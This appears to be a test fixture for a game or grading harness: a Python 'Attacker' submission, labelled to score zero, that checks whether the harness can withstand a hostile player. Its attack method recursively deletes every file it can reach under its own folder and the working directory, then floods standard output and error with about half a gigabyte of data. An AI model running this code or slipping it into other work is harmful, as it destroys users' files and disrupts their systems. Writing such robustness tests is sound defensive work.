"""Deletes all files that it can, and prints half a gigabyte, when it is changed."""

import os
import sys
from contextlib import suppress
from pathlib import Path

from honest import Wrong

EXPECT = "plays badly"
POINTS = 0
TEST = "repair"


class Attacker(Wrong):
    def attack(self, state):
        for path in [*Path(__file__).parent.rglob("*"), *Path.cwd().rglob("*")]:
            with suppress(OSError):
                path.unlink()
        for _ in range(20):
            sys.stdout.write("x" * 10_000_000)
            os.write(1, b"x" * 10_000_000)
            os.write(2, b"x" * 10_000_000)
